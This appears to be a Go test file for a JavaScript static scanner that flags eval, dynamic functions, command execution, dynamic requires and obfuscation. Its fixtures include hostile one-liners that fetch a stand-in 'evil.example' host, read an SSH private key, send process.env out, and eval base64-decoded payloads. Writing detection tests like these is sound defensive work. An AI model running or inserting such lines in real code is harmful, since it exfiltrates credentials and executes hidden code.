package textscan

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/xkilldash9x/jsguard/internal/analysis/static/javascript"
)

func issues(findings []javascript.Finding) []javascript.IssueType {
	out := make([]javascript.IssueType, 0, len(findings))
	for _, f := range findings {
		out = append(out, f.IssueType)
	}
	return out
}

func TestScan_Rules(t *testing.T) {
	tests := []struct {
		name string
		line string
		want []javascript.IssueType
	}{
		{"eval", `  eval(code)`, []javascript.IssueType{IssueEvalUsage}},
		{"plain function constructor", `var f = new Function("a", "b")`, []javascript.IssueType{IssueDynamicFunction}},
		{"encoded execution", `eval(atob(payload))`, []javascript.IssueType{IssueEvalUsage, IssueObfuscatedExecution}},
		{"buffer decode", `new Function(Buffer.from(s, 'base64').toString())()`, []javascript.IssueType{IssueDynamicFunction, IssueObfuscatedExecution}},
		{"network", `fetch("https://evil.example/collect")`, []javascript.IssueType{IssueNetworkRequest}},
		{"trusted host", `fetch("https://github.com/x")`, nil},
		{"child process", `require('child_process').exec(cmd)`, []javascript.IssueType{IssueCommandExecution}},
		{"bare exec", `exec(cmd, cb)`, []javascript.IssueType{IssueCommandExecution}},
		{"regex exec", `var m = pattern.exec(str)`, nil},
		{"single method exec", `var m = re.exec(str)`, nil},
		{"spawn", `spawn('sh', ['-c', cmd])`, []javascript.IssueType{IssueCommandExecution}},
		{"ssh key", `fs.readFileSync("~/.ssh/id_rsa")`, []javascript.IssueType{IssueSensitiveAccess}},
		{"env exfil", `send(JSON.stringify(process.env))`, []javascript.IssueType{IssueSensitiveAccess}},
		{"env read", `const port = process.env.PORT`, nil},
		{"dynamic require", `require("./plugins/" + name)`, []javascript.IssueType{IssueDynamicRequire}},
		{"template require", "require(`${base}/plugin`)", []javascript.IssueType{IssueDynamicRequire}},
		{"static require", `require('./plugin')`, nil},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			findings := Scan("f.js", []byte(tt.line))
			if tt.want == nil {
				assert.Empty(t, findings)
				return
			}
			assert.Equal(t, tt.want, issues(findings))
		})
	}
}

func TestScan_Severities(t *testing.T) {
	findings := Scan("f.js", []byte(`new Function("return 1")`+"\n"+`new Function(atob(s))`))
	require.Len(t, findings, 3)
	assert.Equal(t, javascript.SeverityWarning, findings[0].Severity)
	assert.Equal(t, javascript.SeverityCritical, findings[1].Severity)
	assert.Equal(t, IssueObfuscatedExecution, findings[2].IssueType)
}

func TestScan_Positions(t *testing.T) {
	src := "const a = 1;\r\n\r\n    eval(x);\n"
	findings := Scan("dir/f.js", []byte(src))
	require.Len(t, findings, 1)
	assert.Equal(t, javascript.Location{File: "dir/f.js", Line: 3, Column: 5}, findings[0].Location)
	assert.Equal(t, "    eval(x);", findings[0].Snippet)
}

func TestScan_NonASCIIColumn(t *testing.T) {
	findings := Scan("a.js", []byte(`const s = "héllo→"; eval(x);`))
	require.Len(t, findings, 1)
	assert.Equal(t, 21, findings[0].Column)
}

func TestScan_SnippetTruncation(t *testing.T) {
	line := "eval(x); // " + strings.Repeat("é", 200)
	findings := Scan("f.js", []byte(line))
	require.Len(t, findings, 1)

	snippet := findings[0].Snippet
	assert.True(t, strings.HasSuffix(snippet, "..."))
	assert.Equal(t, 103, len([]rune(snippet)))
}

func TestScan_HexObfuscation(t *testing.T) {
	line := "var _0x=\"" + strings.Repeat(`\x41`, 150) + "\";"
	findings := Scan("f.js", []byte(line))
	assert.Equal(t, []javascript.IssueType{IssueObfuscation}, issues(findings))

	short := "var s=\"" + strings.Repeat(`\x41`, 20) + "\";"
	assert.Empty(t, Scan("f.js", []byte(short)))
}

func TestScan_Empty(t *testing.T) {
	findings := Scan("f.js", nil)
	assert.NotNil(t, findings)
	assert.Empty(t, findings)
}
